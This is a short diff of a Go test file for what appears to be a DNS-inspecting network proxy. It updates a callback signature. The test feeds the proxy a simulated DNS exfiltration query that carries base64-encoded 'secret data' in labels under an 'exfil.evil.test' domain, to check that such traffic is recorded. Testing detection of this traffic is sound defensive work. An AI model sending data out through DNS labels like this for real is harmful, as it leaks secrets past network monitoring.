@@ -307,7 +307,7 @@ func TestDNSDotInLabelRecorded(t *testing.T) {
 	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
 		cfg.UDPIdleTimeout = 3 * time.Second
 		cfg.DNSPorts = []uint16{res.addr().Port()}
-		cfg.DNSAnswer = func(_ uint64, _ string, msg []byte) { answers <- bytes.Clone(msg) }
+		cfg.DNSAnswer = func(_ uint64, _ string, _ netip.Addr, msg []byte) { answers <- bytes.Clone(msg) }
 	})
 	q := dnsQueryLabels(9, []string{"c2VjcmV0.ZGF0YQ", "exfil", "evil", "test"}, 16, 0x0100)
 	c, done := startFlow(p, quicClient, res.addr(), q)
